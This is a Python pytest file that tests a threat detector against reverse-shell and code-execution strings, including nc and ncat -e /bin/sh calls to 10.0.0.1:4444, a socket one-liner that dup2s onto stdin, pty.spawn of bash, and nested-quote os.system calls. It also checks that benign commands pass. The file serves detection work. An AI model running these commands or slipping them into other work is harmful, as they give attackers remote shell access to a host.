"""A reverse shell and a code call written the ways the table missed (scan34, open holes
of issue 28's lane): the shell as a process's argument list (["nc", "-e", "/bin/sh", …],
["/bin/sh", "-i"] wired to a socket's descriptor), a socket's descriptor duplicated onto a
process's input (os.dup2(s.fileno(), 0)), a one-liner nested in another's quotes (its
quotes escaped: os.system(\\"id\\")), a network module in a list of imports, and pty.spawn
with a literal. A list argument that runs an ordinary command, a scan with nc -z, a note
naming the calls and a descriptor of a file pass. Code written for these tests."""

from __future__ import annotations

import pytest

from tests.memory.support import assert_refused_only_together, fresh_threat

REFUSED = [
    ('subprocess.Popen(["/bin/sh", "-i"], stdin=s.fileno(), stdout=s.fileno(), '
     'stderr=s.fileno())', "command_and_control.reverse_shell"),
    ('subprocess.call(["nc", "-e", "/bin/sh", "10.0.0.1", "4444"])',
     "command_and_control.reverse_shell"),
    ('subprocess.run(["ncat", "10.0.0.1", "4444", "-e", "/bin/bash"])',
     "command_and_control.reverse_shell"),
    ("python3 -c \"import socket,subprocess,os;s=socket.socket();"
     "s.connect(('10.0.0.1',4444));os.dup2(s.fileno(),0)\"", "command_and_control.reverse_shell"),
    ("python -c 'import pty; pty.spawn(\"/bin/bash\")'", "command_and_control.code_call"),
    ("bash -c \"python3 -c 'import os; os.system(\\\"id\\\")'\"", "command_and_control.code_call"),
    ("sh -c 'python -c \"exec(\\\"import socket\\\")\"'", "command_and_control.code_call"),
    ("bash -c \"python -c \\\"__import__(\\'os\\').system(\\'id\\')\\\"\"",
     "command_and_control.code_call"),
    ("python -c \"import socket,os;s=socket.socket();s.connect(('h',1))\"",
     "command_and_control.code_call"),
]

PASSES = [
    'subprocess.run(["git", "status"])',
    'subprocess.run(["nc", "-z", "host", "80"])',
    "Prefers pty.spawn over os.system",
    "subprocess.run(cmd, stdin=f.fileno())",
    "import socket; use socket.getaddrinfo for lookups",
]

SPLIT = [('subprocess.call(["nc", "-e",', '"/bin/sh", "10.0.0.1", "4444"])')]


@pytest.mark.parametrize(("text", "rule"), REFUSED)
def test_the_shell_or_call_is_refused(text: str, rule: str) -> None:
    threat = fresh_threat(text)
    assert threat is not None and threat.pattern_id == rule


@pytest.mark.parametrize("text", PASSES)
def test_ordinary_calls_and_notes_pass(text: str) -> None:
    assert fresh_threat(text) is None


@pytest.mark.parametrize("pair", SPLIT)
def test_the_argument_list_split_across_two_entries_is_refused(pair: tuple[str, str]) -> None:
    assert_refused_only_together(pair)
